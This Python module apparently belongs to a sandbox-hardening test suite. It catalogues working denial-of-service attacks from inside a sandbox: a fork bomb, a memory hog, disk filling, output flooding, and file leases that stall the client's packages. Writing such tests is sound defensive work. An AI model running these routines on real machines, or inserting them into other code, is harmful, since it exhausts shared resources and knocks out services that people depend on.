"""Attacks on the organiser's machine from inside the sandbox."""

import contextlib
import fcntl
import importlib.util
import multiprocessing
import os
import signal
import tempfile
import time
from pathlib import Path

from .catalogue import attack
from .wire import Target

_MIB = 1 << 20
_SET_LEASE = 1024
"""F_SETLEASE."""


@attack()
def leases(target: Target) -> None:
    """Take leases on the files of the client and its packages; ignore that they break."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    wanted = [path for name in ("asara", "grpc", "google", "encodings") for path in _files_of(name)]
    fork = multiprocessing.get_context("fork")
    for number in range(_LEASING):
        fork.Process(target=_take_leases, args=[target, wanted[number::_LEASING]]).start()
    while target.left_s > 0:
        time.sleep(0.1)


_LEASING = 4
"""Processes that take leases, each up to its limit of open files."""


def _files_of(package: str) -> list[str]:
    spec = importlib.util.find_spec(package)
    folders = list(spec.submodule_search_locations or ()) if spec else []
    return [str(path) for folder in folders for path in sorted(Path(folder).rglob("*.py*"))]


def _take_leases(target: Target, paths: list[str]) -> None:
    taken = 0
    refused: dict[str, int] = {}
    for path in paths:
        with contextlib.suppress(OSError):
            file = os.open(path, os.O_RDONLY)
            try:
                fcntl.fcntl(file, _SET_LEASE, fcntl.F_WRLCK)
                taken += 1
            except OSError as error:
                refused[str(error)] = refused.get(str(error), 0) + 1
                os.close(file)
    print(f"leases taken: {taken}; refused: {refused}", flush=True)
    while target.left_s > 0:
        time.sleep(0.1)


@attack()
def output_flood(target: Target) -> None:
    """Write to standard output and standard error without a pause."""

    def scream(descriptor: int) -> None:
        while target.left_s > 0:
            os.write(descriptor, b"x" * 65_536)

    fork = multiprocessing.get_context("fork")
    children = [fork.Process(target=scream, args=[1 + number % 2]) for number in range(4)]
    for child in children:
        child.start()
    for child in children:
        child.join()


@attack()
def fork_bomb(target: Target) -> None:
    """Fork endlessly, as does every child; in sessions of their own."""
    while target.left_s > 0:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.001)


@attack()
def memory_hog(target: Target) -> None:
    """Take memory until something is killed, in one child after another."""
    while target.left_s > 0:
        if os.fork() == 0:
            held = []
            while target.left_s > 0:
                held.append(os.urandom(16) * (4 * _MIB))
        os.wait()


@attack()
def full_disk(target: Target) -> None:
    """Fill every directory that can be written to, and empty it again."""
    places = (tempfile.gettempdir(), "/dev/shm", ".", "/", "/run")
    folders = [name for name in places if os.access(name, os.W_OK)]
    for _ in target.rounds():
        for folder in folders:
            paths = [Path(folder, f"file{number}") for number in range(2_000)]
            with contextlib.suppress(OSError):
                for number, path in enumerate(paths):
                    path.write_bytes(bytes(_MIB if number % 2 else 0))
            for path in paths:
                path.unlink(missing_ok=True)
